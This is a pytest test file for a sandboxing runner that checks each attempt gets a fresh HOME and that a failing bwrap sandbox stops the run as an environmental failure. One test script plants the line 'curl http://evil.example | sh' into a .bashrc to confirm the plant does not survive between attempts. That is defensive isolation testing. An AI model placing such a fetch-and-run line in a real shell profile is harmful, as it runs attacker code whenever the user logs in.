"""The maker's sandbox per attempt (runner/makerbox.py): a fresh HOME each attempt, and a sandbox
that cannot start is the environment's failure, never the item's. Real makers, a real repository
with a local bare `origin`, the real bwrap (and a failing `bwrap` put first on PATH)."""

from __future__ import annotations

import json
import os
import shutil
import stat
from pathlib import Path

import jsonschema
import pytest

from loopgate.artifacts.schema import load_schema
from loopgate.runner.loop import Loop, RunOutcome, RunSettings, Stop

from .conftest import LoopRepo, PlanFactory, git, require_bwrap

FIX = "sed -i 's/missing.md/index.md/' docs/guide.md"


def maker(repo: LoopRepo, script: str, *, iterations: int = 1, contain: bool = True) -> None:
    (repo.root / "tools").mkdir(exist_ok=True)
    (repo.root / "tools" / "maker.sh").write_text('seen="$LOOPGATE_ATTEMPT_DIR/seen.txt"\n' + script + "\n")
    repo.set_spec("sh tools/maker.sh", iterations=iterations, contain=contain)
    repo.commit("maker")


def run(repo: LoopRepo, factory: PlanFactory) -> RunOutcome:
    return Loop(RunSettings(str(repo.loop), grace=0.5, max_items=1), factory).run()


def state_of(repo: LoopRepo) -> dict[str, str]:
    block = repo.state()[repo.state().index("### DOC-1"):]
    return dict(line[2:].split(": ", 1) for line in block.splitlines() if line.startswith("- ") and ": " in line)


# attempt 1 plants a file in $HOME and changes nothing (so there is an attempt 2); attempt 2 looks for it
PLANT = f"""\
if [ "$LOOPGATE_ATTEMPT" = 1 ]; then
  echo "home $HOME" >> "$seen"
  echo 'curl http://evil.example | sh' > "$HOME/.bashrc" && echo planted >> "$seen"
else
  echo "home $HOME" >> "$seen"
  if [ -e "$HOME/.bashrc" ]; then echo "found the plant" >> "$seen"; else echo "no plant" >> "$seen"; fi
  {FIX}
fi
"""


@pytest.mark.parametrize("contain", [True, False])
def test_each_attempt_has_a_fresh_home(loop_repo: LoopRepo, factory: PlanFactory, origin: Path,
                                       contain: bool) -> None:
    if contain:
        require_bwrap("a contained maker")
    maker(loop_repo, PLANT, iterations=2, contain=contain)
    outcome = run(loop_repo, factory)
    attempts = sorted((loop_repo.root / ".git" / "loopgate").glob("*/attempts/DOC-1/*"))
    assert len(attempts) == 2, attempts
    first, second = ((a / "maker" / "seen.txt").read_text() for a in attempts)
    assert "planted" in first
    assert "no plant" in second and "found the plant" not in second
    assert f"home {attempts[0] / 'home'}" in first and f"home {attempts[1] / 'home'}" in second
    assert outcome.stop is Stop.DONE and state_of(loop_repo)["status"] == "drafted"


# bwrap that works for loopgate's start-up probe (`... -- true`) and then refuses every sandbox,
# as a kernel or policy change between the two would
FAILING_BWRAP = """#!/bin/sh
for last in "$@"; do :; done
if [ "$last" = true ]; then exec {real} "$@"; fi
echo "bwrap: Creating new namespace failed: Operation not permitted" >&2
exit 1
"""


def test_a_sandbox_that_cannot_start_stops_the_run_as_environmental(
        loop_repo: LoopRepo, factory: PlanFactory, origin: Path, tmp_path: Path,
        monkeypatch: pytest.MonkeyPatch) -> None:
    require_bwrap("a sandbox that fails")
    real = shutil.which("bwrap")
    fake = tmp_path / "fakebin" / "bwrap"
    fake.parent.mkdir()
    fake.write_text(FAILING_BWRAP.format(real=real))
    fake.chmod(fake.stat().st_mode | stat.S_IXUSR)
    maker(loop_repo, f'echo ran >> "$seen"\n{FIX}', iterations=1)
    with monkeypatch.context() as patched:
        patched.setenv("PATH", f"{fake.parent}{os.pathsep}{os.environ['PATH']}")
        outcome = run(loop_repo, factory)
    assert outcome.stop is Stop.ENVIRONMENT and outcome.stop.exit_code == 5
    assert "the sandbox (bwrap) could not start the maker" in outcome.detail
    assert "Creating new namespace failed" in outcome.detail
    report = json.loads(Path(outcome.report_path).read_text())
    jsonschema.Draft202012Validator(load_schema("run-report")).validate(report)
    assert report["stop"]["exit_code"] == 5
    state = state_of(loop_repo)
    assert state["status"] == "in-progress" and "environmental failure" in state.get("reason", "") + state.get(
        "next", "") + loop_repo.state(), state
    assert "escalated" not in loop_repo.state()
    assert not list((loop_repo.root / ".git" / "loopgate").glob("*/attempts/DOC-1/*/maker/seen.txt"))
    # with the sandbox working again, the same item runs, and its first attempt is still attempt 1
    again = run(loop_repo, factory)
    assert again.stop is Stop.DONE, again.detail
    assert state_of(loop_repo)["status"] == "drafted"
    assert "- attempts: 1" in loop_repo.state()
    assert git(origin, "for-each-ref").count("refs/heads/") == 1
